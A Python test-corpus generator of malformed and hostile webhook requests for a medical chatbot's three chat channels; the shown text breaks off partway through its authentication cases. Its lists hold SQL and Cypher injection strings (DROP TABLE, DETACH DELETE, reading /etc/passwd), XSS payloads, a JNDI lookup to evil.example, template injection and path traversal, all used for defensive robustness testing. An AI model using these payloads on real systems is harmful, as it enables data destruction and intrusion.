"""Bad requests for the three chat channels: a deterministic corpus, at least 300 per channel.

Why a generator and not a fixture file: most cases differ from a valid request in one
field or one byte, and the interesting bodies (64 KiB + 1, 1 MiB, 100,000 levels of
nesting, raw surrogate bytes) are easier to read as the code that builds them than as
files. Hand-listed cases cover each kind of hostile input once on purpose; a seeded
``random.Random`` per channel then adds a fixed number of mutations of the same kinds
(flipped and cut bytes, random field types, random nesting, random junk messages), so
every run sends exactly the same bytes and a failure can be replayed by its label.

Each :class:`BadRequest` is ``(label, raw body bytes, extra headers, query)``; the test
(``test_bad_requests.py``) posts it to the channel's webhook (:data:`PATHS`). Many are
valid requests in the end (an HTML message is a message, ``"糖尿病" * 333 + "？"`` is
exactly 1000 characters): the suite asserts that nothing fails, not that everything is
refused. Every request is valid HTTP: ``Content-Length`` is always the body's real length
(http.client sets it), or the body is sent chunked.

How a body's JSON is written decides what the server sees, so it is explicit here:

- a plain ``str`` field is ``json.dumps(..., ensure_ascii=False)`` and the whole body is
  encoded ``"utf-8", "surrogatepass"``: a lone surrogate in it becomes raw bytes
  (``\\xed\\xa0\\x80``), i.e. invalid UTF-8;
- :func:`esc` writes ``json.dumps(...)`` with ``ensure_ascii=True``: a lone surrogate
  becomes the JSON escape ``\\ud800``, i.e. valid JSON that decodes to a lone surrogate;
- :class:`Raw` is literal JSON text (``NaN``, ``1e400``, a 5000-digit integer, nesting).
"""

from __future__ import annotations

import base64
import gzip
import json
import random
from typing import Any, Callable, Dict, Iterator, List, NamedTuple, Sequence, Tuple, Union

from tests.adversarial.conftest import API_TOKEN, HIS_TOKEN, WEB_SENDER

SEED = 20240611
CHANNELS = ("web", "his", "rest")
PATHS = {
    "web": "/webhooks/web/webhook",
    "his": "/webhooks/his/webhook",
    "rest": "/webhooks/rest/webhook",
}
MIN_PER_CHANNEL = 300
# Random cases added to each channel's hand-listed ones (more if that is still under the minimum).
RANDOM_PER_CHANNEL = 80
MAX_BODY_BYTES = 64 * 1024
MAX_MESSAGE_LENGTH = 1000
MAX_ID_LENGTH = 128
CHUNK_SIZE = 8 * 1024
# Text the server's replies must never contain; the corpus must not contain it either,
# or a reply that echoes the user's message would look like a leaked stack trace.
FORBIDDEN_TEXT = (b"Traceback", b'File "', b"Exception")

HeaderValue = Union[str, bytes]


class BadRequest(NamedTuple):
    """One request: a label unique within its channel, the exact body bytes, headers, query."""

    label: str
    body: bytes
    headers: Dict[str, HeaderValue]
    query: str = ""

    @property
    def chunked(self) -> bool:
        """Sent with ``Transfer-Encoding: chunked`` (no Content-Length) instead of in one piece."""
        value = self.headers.get("Transfer-Encoding", "")
        return (value.decode("latin-1") if isinstance(value, bytes) else value).lower() == "chunked"

    def chunks(self) -> Iterator[bytes]:
        for start in range(0, len(self.body), CHUNK_SIZE):
            yield self.body[start : start + CHUNK_SIZE]


class Raw(str):
    """Literal JSON text for a field's value (``NaN``, ``1e400``, ``[[[]]]``, an escaped string)."""


DEFAULT: Any = object()  # the channel's normal value for a field
OMIT: Any = object()  # leave the field out


def esc(value: Any) -> Raw:
    """``value`` as JSON with every non-ASCII character escaped (lone surrogates as ``\\ud800``)."""
    return Raw(json.dumps(value, ensure_ascii=True))


def jtext(value: Any) -> str:
    """JSON text of a field value; non-ASCII (and lone surrogates) left as characters."""
    if isinstance(value, Raw):
        return str(value)
    return json.dumps(value, ensure_ascii=False)


def obj(pairs: Sequence[Tuple[str, Any]]) -> str:
    """A JSON object's text from ``(key, value)`` pairs, in order, duplicates kept."""
    return "{" + ", ".join(f"{json.dumps(key)}: {jtext(value)}" for key, value in pairs) + "}"


def encode(text: str) -> bytes:
    """Body bytes: UTF-8, lone surrogates as their raw (invalid) 3-byte sequences."""
    return text.encode("utf-8", "surrogatepass")


def nested_arrays(depth: int, inner: str = "") -> str:
    return "[" * depth + inner + "]" * depth


def nested_objects(depth: int, inner: str = "1") -> str:
    return '{"a": ' * depth + inner + "}" * depth


# ---------------------------------------------------------------------------------- content
DISEASES = (
    "感冒",
    "糖尿病",
    "高血压",
    "肺炎",
    "冠心病",
    "胃炎",
    "痛风",
    "偏头痛",
    "水痘",
    "湿疹",
    "流行性感冒",
    "新型冠状病毒感染",
    "乙型病毒性肝炎",
    "腰椎间盘突出症",
    "小儿高热惊厥",
)
QUESTIONS = (
    "有什么症状",
    "怎么治疗",
    "吃什么好",
    "不能吃什么",
    "挂什么科",
    "会传染吗",
    "能治好吗",
    "多久能好",
    "怎么预防",
    "是什么原因引起的",
    "要做什么检查",
    "有什么并发症",
    "是什么病",
)
SMALL_TALK = (
    "你好",
    "谢谢",
    "再见",
    "嗯",
    "好的",
    "是的",
    "不是",
    "ok",
    "哈哈",
    "在吗",
    "你是谁",
    "？",
    "。",
)
CYPHER = (
    "感冒' RETURN 1 //",
    "}) MATCH (n) DETACH DELETE n //",
    "$param",
    "$disease",
    "`感冒`",
    "感冒`) DETACH DELETE n //",
    "感冒'}) RETURN n //",
    '感冒" OR 1=1 //',
    "感冒' OR '1'='1",
    "MATCH (n) RETURN n LIMIT 25",
    "CALL db.labels()",
    "感冒有什么症状' UNION MATCH (n) RETURN n.name AS name //",
    "感冒\\' RETURN 1",
    "{disease: '感冒'}",
    "感冒' WITH 1 AS x CALL apoc.load.json('file:///etc/passwd') YIELD value RETURN value //",
)
SQL = (
    "'; DROP TABLE unanswered; --",
    "1 OR 1=1",
    "感冒'; DELETE FROM unanswered WHERE '1'='1",
    '" OR ""="',
    "1; SELECT sqlite_version(); --",
    "感冒' UNION SELECT sql FROM sqlite_master --",
)
HTML = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "感冒<svg/onload=alert(document.cookie)>有什么症状",
    '<a href="javascript:alert(1)">感冒</a>',
    "</script><script>alert(1)</script>",
    "&lt;b&gt;感冒&lt;/b&gt; &#x3C;script&#x3E;",
    "<iframe src=//evil.example></iframe>",
)
TEMPLATES_AND_MISC = (
    "{{ 7*7 }}",
    "{{ config }}{{ ''.__class__.__mro__ }}",
    "{% for x in range(100000000) %}x{% endfor %}",
    "${jndi:ldap://evil.example/a}",
    "%s%s%s%s%n",
    "{0.__class__}",
    "../../../../etc/passwd",
    "感冒\n2024-01-01 00:00:00 ERROR forged log line",
    "感冒\r\nX-Injected: 1",
    "\\u0000\\ud800 literally",
    "null",
    "undefined",
    "NaN",
    "true",
    "0",
    "-1",
    "[]",
    "{}",
)
INTENT_TEXTS = (
    '/diagnosis{"disease": {"a": 1}}',
    '/diagnosis{"disease": "感冒"}',
    '/diagnosis{"disease": ["感冒", "糖尿病"]}',
    "/greet",
    '/accept{"x":1}',
    '/accept{"disease": "感冒"}',
    '/deny{"disease": "感冒"}',
    " /diagnosis",
    '\t/diagnosis{"disease": "肺炎"}',
    "\n/restart",
    "/restart",
    "/session_start",
    "/nlu_fallback",
    "/out_of_scope",
    "/EXTERNAL_emergency",
    "/action_restart",
    "/accept@0.99",
    '/diagnosis@1.0{"disease": "感冒"}',
    "//restart",
    "\u200b/restart",
    "\x00/restart",
    '\ufeff/diagnosis{"disease": "感冒"}',
    "/accept",
    "/deny",
    " /accept ",
    "/accept\n",
    "/",
    "／restart",
)
CONTROL_TEXTS = (
    "感冒\x00有什么症状",
    "\x1b[31m感冒有什么症状\x1b[0m",
    "\x1b[2J\x1b[H感冒",
    "感冒\x7f有什么症状",
    "感\u200b冒\u200b有什么症状",
    "\u202e状症么什有冒感",
    "感冒\u202e有什么症状\u202c",
    "\ufeff感冒有什么症状",
    "感冒\u2028有什么\u2029症状",
    "\r\n\r\n感冒\r\n",
    "\x07\x08\x0b\x0c感冒",
    "\x85感冒\x9b31m",
    "感冒\u00ad有什么症状",
    "\u2066感冒\u2069\u200f\u200e",
    "感冒\U000e0041\U000e007f",
    "\ue000感冒\uf8ff",
    "\ufffe感冒\uffff",
)
CONTROL_ONLY = ("\x00", "\x00" * 50, "\u200b" * 20, "\x1b[0m", "\ufeff", "\u202e", "\r\n\t ", "\x7f\x7f")
SURROGATE_TEXTS = (
    "\ud800",
    "\udfff",
    "感冒\ud800有什么症状",
    "\udfff感冒",
    "\ude00\ud83d",
    "感冒\ud83d",
    "\ud800\ud800\ud800",
)
CONFUSABLES = (
    "ＡＢＣ",
    "ｇａｎｍａｏ ｙｏｕ ｓｈｅｎｍｅ ｚｈｅｎｇｚｈｕａｎｇ",
    "сoІd sуmрtоms",  # Cyrillic lookalikes
    "感\u0301冒\u0308有什么症状",
    "感̸̢̛̫̙冒̷̧̙͉有̴̨什么症状",
    "🤒感冒有什么症状😷",
    "👨\u200d👩\u200d👧\u200d👦🏳️\u200d🌈",
    "مرحبا كيف حالك",
    "שלום 感冒 مرض",
    "感冒\u0627\u0644\u0633\u0644\u0627\u0645",
    "ﷺ" * 50,
    "㍿" * 100 + "感冒",
    "①②③⑴⒜感冒",
    "𠀀𠀁𠀂𪚥感冒",
    "𝐠𝐚𝐧𝐦𝐚𝐨 𝐳𝐡𝐞𝐧𝐠𝐳𝐡𝐮𝐚𝐧𝐠",
    "ｶﾝﾎﾞｳ感冒",
    "감기 증상",
    "風邪の症状は何ですか",
    "感\ufe0f冒\ufe0e",
    "what are the symptoms of a cold",
    "ganmao zhengzhuang",
)
EMERGENCY = ("胸口剧痛喘不上气", "我爸突然晕倒了叫不醒", "孩子误服了农药", "没有胸痛，也没有呼吸困难")
# Exactly MAX_MESSAGE_LENGTH characters each: repeated disease names and small talk.
FULL_LENGTH = {
    "糖尿病x333": "糖尿病" * 333 + "？",
    "高血压x333": "高血压" * 333 + "吗",
    "感冒x500": "感冒" * 500,
    "肺炎x500": "肺炎" * 500,
    "新冠x125": "新型冠状病毒感染" * 125,
    "感冒有什么症状x142": ("感冒有什么症状" * 143)[:1000],
    "mixed-diseases": ("".join(DISEASES) * 20)[:1000],
    "嗯x999": "嗯" * 999 + "？",
    "谢谢再见x250": "谢谢再见" * 250,
    "okx500": "ok" * 500,
    "你好x500": "你好" * 500,
    "是x1000": "是" * 1000,
    "不是x500": "不是" * 500,
    "question-marks": "？" * 1000,
    "emoji": "😷" * 1000,
    "astral-cjk": "𠀀" * 1000,
    "ascii-a": "a" * 1000,
    "brackets": "[" * 1000,
    "nul-then-char": "\x00" * 999 + "感",
    "emergency-x166": ("胸痛呼吸困难" * 167)[:1000],
    "ﷺx1000": "ﷺ" * 1000,
    "combining": "感" + "\u0301" * 999,
}


# ---------------------------------------------------------------------------------- channel
class Target:
    """Builds requests for one channel: its sender ids (one fresh id per case), auth, base body."""

    def __init__(self, channel: str) -> None:
        self.channel = channel
        self.base_sender = {"web": WEB_SENDER, "his": "his-adversarial", "rest": "rest-adversarial"}[channel]
        self.serial = 0

    def sender(self) -> str:
        """A new valid sender id, so no case continues another case's conversation."""
        self.serial += 1
        return f"{self.base_sender}-{self.serial:04d}"

    def auth(self) -> Dict[str, HeaderValue]:
        return {"Authorization": f"Bearer {HIS_TOKEN}"} if self.channel == "his" else {}

    def pairs(
        self, sender: Any = DEFAULT, message: Any = DEFAULT, extra: Sequence[Tuple[str, Any]] = ()
    ) -> List[Tuple[str, Any]]:
        out: List[Tuple[str, Any]] = []
        if sender is not OMIT:
            out.append(("sender", self.sender() if sender is DEFAULT else sender))
        if message is not OMIT:
            out.append(("message", "感冒有什么症状" if message is DEFAULT else message))
        return out + list(extra)

    def request(
        self,
        label: str,
        *,
        sender: Any = DEFAULT,
        message: Any = DEFAULT,
        extra: Sequence[Tuple[str, Any]] = (),
        raw: Union[bytes, str, None] = None,
        headers: Union[Dict[str, HeaderValue], None] = None,
        auth: bool = True,
        query: str = "",
    ) -> BadRequest:
        """A request whose body is ``raw`` or the object of ``sender``/``message``/``extra``."""
        if raw is None:
            body = encode(obj(self.pairs(sender, message, extra)))
        else:
            body = raw if isinstance(raw, bytes) else encode(raw)
        all_headers: Dict[str, HeaderValue] = {"Content-Type": "application/json"}
        if auth:
            all_headers.update(self.auth())
        all_headers.update(headers or {})
        return BadRequest(label, body, {k: v for k, v in all_headers.items() if v is not None}, query)

    def valid_text(self, message: str = "感冒有什么症状") -> str:
        return obj(self.pairs(message=message))


# ---------------------------------------------------------------------------------- hand-listed
WRONG_TYPES: Tuple[Tuple[str, Raw], ...] = tuple(
    (name, Raw(text))
    for name, text in (
        ("null", "null"),
        ("zero", "0"),
        ("int", "123"),
        ("negative", "-1"),
        ("float", "1.5"),
        ("true", "true"),
        ("false", "false"),
        ("empty-list", "[]"),
        ("list", '["感冒"]'),
        ("empty-object", "{}"),
        ("object", '{"text": "感冒"}'),
        ("bigint-1e30", "1" + "0" * 30),
        ("1e400", "1e400"),
        ("-1e400", "-1e400"),
        ("NaN", "NaN"),
        ("Infinity", "Infinity"),
        ("empty-string", '""'),
        ("blank", '"   "'),
        ("int-5000-digits", "9" * 5000),
    )
)


def body_cases(t: Target) -> Iterator[BadRequest]:
    """Bodies that are not a JSON object at all, or not JSON, or not UTF-8."""
    valid = t.valid_text()
    for name, raw in (
        ("empty", b""),
        ("space", b" "),
        ("whitespace", b" \t\r\n \n"),
        ("crlf", b"\r\n"),
        ("null", b"null"),
        ("empty-array", b"[]"),
        ("string", b'"string"'),
        ("number", b"123"),
        ("zero", b"0"),
        ("float", b"-1.5e10"),
        ("1e400", b"1e400"),
        ("NaN", b"NaN"),
        ("true", b"true"),
        ("false", b"false"),
        ("empty-object", b"{}"),
        ("nul", b"\x00"),
        ("nul-1k", b"\x00" * 1024),
        ("bom-only", b"\xef\xbb\xbf"),
        ("ff", b"\xff"),
        ("array-of-request", encode("[" + valid + "]")),
        ("string-of-request", encode(json.dumps(valid))),
        ("xml", "<request><sender>a</sender><message>感冒</message></request>".encode()),
        ("yaml", "sender: a\nmessage: 感冒有什么症状\n".encode()),
        ("valid-then-newlines", encode(valid + "\n\n\r\n")),
    ):
        yield t.request(f"body/{name}", raw=raw)
    yield t.request(
        "body/form-urlencoded",
        raw=b"sender=a&message=%E6%84%9F%E5%86%92",
        headers={"Content-Type": "application/x-www-form-urlencoded"},
    )
    boundary = "----adversarial"
    multipart = (
        f'--{boundary}\r\nContent-Disposition: form-data; name="message"\r\n\r\n感冒\r\n--{boundary}--\r\n'
    ).encode()
    yield t.request(
        "body/multipart", raw=multipart, headers={"Content-Type": f"multipart/form-data; boundary={boundary}"}
    )
    yield t.request(
        "body/gzip", raw=gzip.compress(encode(valid), mtime=0), headers={"Content-Encoding": "gzip"}
    )
    yield t.request("body/no-content-type", raw=encode(valid), headers={"Content-Type": None})
    yield t.request("body/text-plain", raw=encode(valid), headers={"Content-Type": "text/plain"})
    yield t.request(
        "body/json-charset-gbk",
        raw=valid.encode("gbk"),
        headers={"Content-Type": "application/json; charset=gbk"},
    )
    yield t.request("body/expect-100-continue", raw=encode(valid), headers={"Expect": "100-continue"})
    yield t.request("body/chunked-valid", raw=encode(valid), headers={"Transfer-Encoding": "chunked"})
    for name, codec in (
        ("utf-16", "utf-16"),
        ("utf-16-le", "utf-16-le"),
        ("utf-32", "utf-32"),
        ("gbk", "gbk"),
        ("gb18030", "gb18030"),
    ):
        yield t.request(f"utf8/encoded-{name}", raw=valid.encode(codec))
    yield t.request("utf8/latin-1", raw=obj(t.pairs(message="café résumé")).encode("latin-1"))


def malformed_json_cases(t: Target) -> Iterator[BadRequest]:
    valid = t.valid_text()
    data = encode(valid)
    for cut in (1, 2, len(data) // 4, len(data) // 2, len(data) - 2, len(data) - 1):
        yield t.request(f"json/truncated-at-{cut}", raw=data[:cut])
    # cut inside the 3-byte UTF-8 sequence of the message's first Chinese character
    at = data.index("感".encode())
    yield t.request("json/truncated-mid-character", raw=data[: at + 1])
    for name, tail in (
        ("x", "x"),
        ("brace", "}"),
        ("comma", ","),
        ("second-object", valid),
        ("nul", "\x00"),
        ("comment", " // trailing"),
        ("array", "[]"),
    ):
        yield t.request(f"json/trailing-{name}", raw=valid + tail)
    sender = t.sender()
    for name, text in (
        ("single-quotes", f"{{'sender': '{sender}', 'message': '感冒有什么症状'}}"),
        ("unquoted-keys", f'{{sender: "{sender}", message: "感冒有什么症状"}}'),
        ("missing-comma", f'{{"sender": "{sender}" "message": "感冒有什么症状"}}'),
        ("comma-before-brace", f'{{"sender": "{sender}", "message": "感冒有什么症状",}}'),
        ("missing-value", f'{{"sender": "{sender}", "message": }}'),
        ("missing-colon", f'{{"sender" "{sender}", "message": "感冒"}}'),
        ("comments", f'{{/* c */ "sender": "{sender}", "message": "感冒" // c\n}}'),
        ("hex-number", f'{{"sender": "{sender}", "message": "感冒", "metadata": {{"n": 0x10}}}}'),
        ("leading-zero", f'{{"sender": "{sender}", "message": "感冒", "metadata": {{"n": 012}}}}'),
        ("plus-number", f'{{"sender": "{sender}", "message": "感冒", "metadata": {{"n": +1}}}}'),
        ("unterminated-string", f'{{"sender": "{sender}", "message": "感冒有什么症状}}'),
        ("raw-control-in-string", f'{{"sender": "{sender}", "message": "感冒\x01症状"}}'),
        ("raw-newline-in-string", f'{{"sender": "{sender}", "message": "感冒\n症状"}}'),
        ("bad-escape", f'{{"sender": "{sender}", "message": "感冒\\x41"}}'),
        ("short-unicode-escape", f'{{"sender": "{sender}", "message": "感冒\\u12"}}'),
        ("non-hex-escape", f'{{"sender": "{sender}", "message": "\\uZZZZ"}}'),
        ("lone-backslash", f'{{"sender": "{sender}", "message": "感冒\\"}}'),
        ("python-literals", f'{{"sender": "{sender}", "message": "感冒", "metadata": None}}'),
        ("js-undefined", f'{{"sender": "{sender}", "message": undefined}}'),
        ("only-open-brace", "{"),
        ("only-close-brace", "}"),
        ("braces-reversed", "}{"),
        ("key-without-object", '"sender": "a"'),
        ("object-key-number", f'{{1: "{sender}"}}'),
    ):
        yield t.request(f"json/{name}", raw=text)
    for name, value in (("NaN", "NaN"), ("Infinity", "Infinity"), ("-Infinity", "-Infinity")):
        yield t.request(f"json/message-{name}", message=Raw(value))
        yield t.request(f"json/metadata-{name}", extra=[("metadata", Raw(f'{{"score": {value}}}'))])
    yield t.request("json/escaped-nul-in-message", message=esc("感冒\x00有什么症状"))
    yield t.request("json/all-escaped", raw=esc(json.loads(valid)).encode())
    yield t.request("json/bom-then-valid", raw=b"\xef\xbb\xbf" + data)
    yield t.request("json/utf16-bom-then-valid", raw=b"\xff\xfe" + data)
    # duplicate keys: Python keeps the last one
    yield t.request("json/duplicate-message-last-valid", extra=[("message", "感冒怎么治疗")])
    yield t.request("json/duplicate-message-last-number", extra=[("message", Raw("5"))])
    yield t.request("json/duplicate-sender-last-null", extra=[("sender", Raw("null"))])
    yield t.request("json/duplicate-sender-last-valid", extra=[("sender", t.sender())])
    yield t.request("json/duplicate-metadata", extra=[("metadata", {"a": 1}), ("metadata", Raw("[1]"))])


def nesting_cases(t: Target) -> Iterator[BadRequest]:
    """Deep nesting at the top level, in ``metadata`` and in the fields (built as strings)."""
    for depth in (9, 10, 100, 10_000, 100_000):
        yield t.request(f"nesting/top-array-{depth}", raw=nested_arrays(depth))
        yield t.request(f"nesting/top-object-{depth}", raw=nested_objects(depth))
        yield t.request(f"nesting/metadata-object-{depth}", extra=[("metadata", Raw(nested_objects(depth)))])
        yield t.request(
            f"nesting/metadata-array-{depth}",
            extra=[("metadata", Raw('{"a": ' + nested_arrays(depth) + "}"))],
        )
    for depth in (10, 100, 10_000):
        yield t.request(f"nesting/message-array-{depth}", message=Raw(nested_arrays(depth)))
        yield t.request(f"nesting/sender-object-{depth}", sender=Raw(nested_objects(depth)))
        yield t.request(f"nesting/extra-field-{depth}", extra=[("extra", Raw(nested_arrays(depth)))])
    # the limit is 8 levels: metadata of 7 more is exactly 8, of 8 more is 9
    yield t.request("nesting/metadata-total-depth-8", extra=[("metadata", Raw(nested_objects(7)))])
    yield t.request("nesting/metadata-total-depth-9", extra=[("metadata", Raw(nested_objects(8)))])
    # unclosed, under the body limit: the parser's recursion, not the size check, must stop these
    yield t.request("nesting/unclosed-arrays-60000", raw="[" * 60_000)
    yield t.request("nesting/unclosed-objects-12000", raw='{"a": ' * 12_000)
    yield t.request("nesting/mixed-30000", raw='[{"a": ' * 5_000 + "1" + "}]" * 5_000)
    # wide rather than deep: still valid
    yield t.request(
        "nesting/metadata-wide-list", extra=[("metadata", Raw('{"a": [' + ",".join(["0"] * 10_000) + "]}"))]
    )
    yield t.request(
        "nesting/metadata-many-keys",
        extra=[("metadata", Raw("{" + ",".join(f'"k{i}": {i}' for i in range(4_000)) + "}"))],
    )


def field_type_cases(t: Target) -> Iterator[BadRequest]:
    """Wrong types and missing fields for ``sender``, ``message``, ``metadata``, ``request_id``."""
    fields = ["sender", "message", "metadata"] + (["request_id"] if t.channel == "his" else [])
    for name, value in WRONG_TYPES:
        yield t.request(f"type/sender-{name}", sender=value)
        yield t.request(f"type/message-{name}", message=value)
        if "metadata" in fields and (t.channel != "web" or name in ("list", "NaN", "int-5000-digits")):
            yield t.request(f"type/metadata-{name}", extra=[("metadata", value)])
        if "request_id" in fields:
            yield t.request(f"type/request_id-{name}", extra=[("request_id", value)])
    yield t.request("type/metadata-string", extra=[("metadata", "感冒")])
    yield t.request("type/metadata-bigint-400-digits", extra=[("metadata", Raw('{"n": ' + "7" * 400 + "}"))])
    yield t.request("type/metadata-values-1e400", extra=[("metadata", Raw('{"n": 1e400, "m": -1e400}'))])
    yield t.request(
        "type/metadata-lone-surrogate-escape",
        extra=[("metadata", esc({"\ud800": "\udfff", "k": "感冒\ud83d"}))],
    )
    yield t.request("type/metadata-nul", extra=[("metadata", esc({"\x00": "\x00\x1b[31m"}))])
    yield t.request(
        "type/metadata-spoof-channel",
        extra=[("metadata", {"input_channel": "his", "sender_id": "his:x", "request_id": "spoof"})],
    )
    yield t.request(
        "type/metadata-proto", extra=[("metadata", Raw('{"__proto__": {"admin": true}, "": ""}'))]
    )
    for name, sender, message in (
        ("both", OMIT, OMIT),
        ("sender", OMIT, DEFAULT),
        ("message", DEFAULT, OMIT),
    ):
        yield t.request(f"type/missing-{name}", sender=sender, message=message)
    yield t.request("type/only-metadata", sender=OMIT, message=OMIT, extra=[("metadata", {"a": 1})])
    yield t.request(
        "type/other-field-names",
        sender=OMIT,
        message=OMIT,
        extra=[("sender_id", t.sender()), ("text", "感冒有什么症状")],
    )
    yield t.request("type/input-channel-spoof", extra=[("input_channel", "his"), ("channel", "his")])
    yield t.request(
        "type/key-case", sender=OMIT, message=OMIT, extra=[("Sender", t.sender()), ("MESSAGE", "感冒")]
    )
    yield t.request("type/key-with-surrogate-escape", extra=[("\ud800", "x")])
    if t.channel == "his":
        for name, value in (
            ("129-chars", "r" * 129),
            ("128-chars", "r" * 128),
            ("spaces", "req 1"),
            ("newline", "req\n1"),
            ("nul-escape", esc("req\x00")),
            ("surrogate-escape", esc("\ud800")),
            ("html", "<script>alert(1)</script>"),
            ("cypher", "x'})RETURN/**/1//"),
            ("unicode", "请求-一"),
            ("emoji", "😷" * 32),
        ):
            yield t.request(f"request_id/{name}", extra=[("request_id", value)])
        yield t.request(
            "request_id/valid-with-bad-sender", sender=Raw("5"), extra=[("request_id", "req-keep-me")]
        )
        yield t.request("request_id/bad-with-bad-sender", sender=Raw("5"), extra=[("request_id", Raw("[]"))])


def size_cases(t: Target) -> Iterator[BadRequest]:
    """Bodies around and far over the 64 KiB limit, and messages around 1000 characters."""

    def padded(total: int) -> bytes:
        head = encode(obj(t.pairs(extra=[("metadata", {"pad": ""})])))
        pad = total - len(head)
        return head[:-3] + b"x" * pad + head[-3:]  # inside the "pad" string (ends with `"}}`)

    for name, total in (
        ("exactly-64KiB", MAX_BODY_BYTES),
        ("64KiB-plus-1", MAX_BODY_BYTES + 1),
        ("64KiB-plus-1024", MAX_BODY_BYTES + 1024),
    ):
        body = padded(total)
        assert len(body) == total
        yield t.request(f"size/{name}", raw=body)
        yield t.request(f"size/{name}-chunked", raw=body, headers={"Transfer-Encoding": "chunked"})
    mib = encode(obj(t.pairs(message="a" * (1 << 20))))
    yield t.request("size/1MiB", raw=mib)
    yield t.request("size/1MiB-chunked", raw=mib, headers={"Transfer-Encoding": "chunked"})
    yield t.request("size/200KiB-whitespace", raw=encode(t.valid_text()) + b" " * (200 * 1024))
    yield t.request("size/60000-ascii-message", message="a" * 60_000)
    yield t.request("size/20000-chinese-message", message="感" * 20_000)
    for name, message in (
        ("1001-chars", "感冒" * 500 + "？"),
        ("1002-chars", "糖尿病" * 334),
        ("1001-ascii", "a" * 1001),
        ("1001-emoji", "😷" * 1001),
        ("1001-zero-width", "\u200b" * 1001),
        ("5000-chars", "感冒有什么症状" * 715),
    ):
        yield t.request(f"length/{name}", message=message)
    for name, message in FULL_LENGTH.items():
        assert len(message) == MAX_MESSAGE_LENGTH, name
        yield t.request(f"length/1000-{name}", message=message)
    yield t.request("length/1000-escaped", message=esc("感冒" * 500))
    yield t.request("length/1000-emoji-as-surrogate-pairs", message=esc("🤒" * 1000))


def text_cases(t: Target) -> Iterator[BadRequest]:
    """Messages that are valid JSON strings but hostile or odd as text."""
    groups = (
        ("control", CONTROL_TEXTS),
        ("control-only", CONTROL_ONLY),
        ("cypher", CYPHER),
        ("sql", SQL),
        ("html", HTML),
        ("misc", TEMPLATES_AND_MISC),
        ("intent", INTENT_TEXTS),
        ("confusable", CONFUSABLES),
        ("emergency", EMERGENCY),
    )
    for group, texts in groups:
        for i, text in enumerate(texts):
            yield t.request(f"{group}/{i:02d}", message=text)
    for i, text in enumerate(SURROGATE_TEXTS):
        yield t.request(f"surrogate/escaped-{i:02d}", message=esc(text))
        yield t.request(f"surrogate/raw-bytes-{i:02d}", message=text)  # invalid UTF-8 in the body
    yield t.request("surrogate/valid-pair-escape", message=esc("\ud83d\ude37感冒有什么症状"))
    yield t.request("surrogate/sender-escaped-d800", sender=esc(t.sender() + "\ud800"))
    yield t.request("surrogate/sender-escaped-dfff", sender=esc("\udfff" + t.sender()))
    yield t.request("surrogate/sender-raw-bytes", sender=t.sender() + "\ud800")
    sender = t.sender()
    valid = obj(t.pairs(sender=sender, message="感冒MESSAGE有什么症状"))
    for name, bad in (
        ("ff-fe", b"\xff\xfe"),
        ("overlong-slash", b"\xc0\xaf"),
        ("overlong-3byte", b"\xe0\x80\xaf"),
        ("overlong-nul", b"\xc0\x80"),
        ("truncated-char", "感".encode()[:2]),
        ("lone-continuation", b"\x80\x80"),
        ("5-byte", b"\xf8\x88\x80\x80\x80"),
        ("over-max-codepoint", b"\xf4\x90\x80\x80"),
        ("cesu-surrogate", b"\xed\xa0\x80"),
    ):
        yield t.request(f"utf8/{name}-in-message", raw=encode(valid).replace(b"MESSAGE", bad))
    yield t.request(
        "utf8/invalid-in-sender", raw=encode(valid).replace(sender.encode(), sender.encode() + b"\xff")
    )
    yield t.request("utf8/invalid-outside-strings", raw=b"\xff" + encode(valid))


def sender_cases(t: Target) -> Iterator[BadRequest]:
    base = t.sender()
    alphabet_ok = t.channel == "web"
    cases = [
        ("129-chars", ("s" * 129)),
        ("128-chars", "s" * 128),
        ("space-inside", base + " x"),
        ("leading-space", " " + base),
        ("trailing-space", base + " "),
        ("newline", base + "\nx"),
        ("trailing-newline", base + "\n"),
        ("tab", base + "\tx"),
        ("crlf", base + "\r\n"),
        ("nul-escape", esc(base + "\x00")),
        ("ansi-escape", esc(base + "\x1b[31m")),
        ("zero-width", base + "\u200b"),
        ("rtl-override", "\u202e" + base),
        ("bom", "\ufeff" + base),
        ("ideographic-space", base + "\u3000x"),
        ("chinese", "病人甲" * 6),
        ("emoji-128", "😷" * 128),
        ("emoji-129", "😷" * 129),
        ("cross-channel-web", "web:" + WEB_SENDER),
        ("cross-channel-his", "his:patient-1"),
        ("cross-channel-rest", "rest:" + base),
        ("colon", base + ":x"),
        ("path", "../../etc/passwd/" + base),
        ("sql-no-spaces", "1'OR'1'='1--" + base),
        ("sql-spaces", "'; DROP TABLE unanswered; --"),
        ("cypher", "x'})RETURN/**/1//" + base),
        ("html", "<script>alert(1)</script>" + base),
        ("jndi", "${jndi:ldap://x/a}" + base),
        ("null-string", "null"),
        ("percent", "%00%0a" + base),
        ("full-width", "ｗｅｂ" + base),
        ("cyrillic", base.replace("e", "е")),
        ("dots", base + ".x"),
    ]
    if alphabet_ok:
        cases += [
            ("1-char", "1"),
            ("test", "test"),
            ("15-chars", "a" * 15),
            ("16-chars", "a" * 16),
            ("16-with-dot", "a" * 15 + "."),
            ("full-width-digits", "１" * 16),
            ("alphabet-128", "A" * 128),
            ("uuid-with-braces", "{" + "0" * 32 + "}"),
        ]
    for name, sender in cases:
        yield t.request(f"sender/{name}", sender=sender)


def auth_cases(t: Target) -> Iterator[BadRequest]:
    """HIS: missing, wrong and odd tokens (some of them still valid); others: tokens are ignored."""
    if t.channel != "his":
        yield t.request("auth/ignored-bearer", headers={"Authorization": "Bearer whatever"})
        yield t.request("auth/ignored-his-token", headers={"Authorization": f"Bearer {HIS_TOKEN}"})
        return
    wrong: List[Tuple[str, HeaderValue]] = [
        ("bearer-only", "Bearer"),
        ("bearer-space", "Bearer "),
        ("token-plus-x", f"Bearer {HIS_TOKEN}x"),
        ("token-minus-1", f"Bearer {HIS_TOKEN[:-1]}"),
        ("upper-token", f"Bearer {HIS_TOKEN.upper()}"),
        ("no-scheme", HIS_TOKEN),
        ("token-scheme", f"Token {HIS_TOKEN}"),
        ("basic", "Basic " + base64.b64encode(f"his:{HIS_TOKEN}".encode()).decode()),
        ("api-token", f"Bearer {API_TOKEN}"),
        ("two-tokens", f"Bearer {HIS_TOKEN} {HIS_TOKEN}"),
        ("tab-separator", f"Bearer\t{HIS_TOKEN}"),
        ("long-4000", "Bearer " + "x" * 4000),
        ("utf8-bytes", "Bearer 令牌".encode()),
        ("latin1-high-bytes", b"Bearer \xff\xfe\xfd"),
        ("null", "Bearer null"),
        ("star", "Bearer *"),
        ("empty", ""),
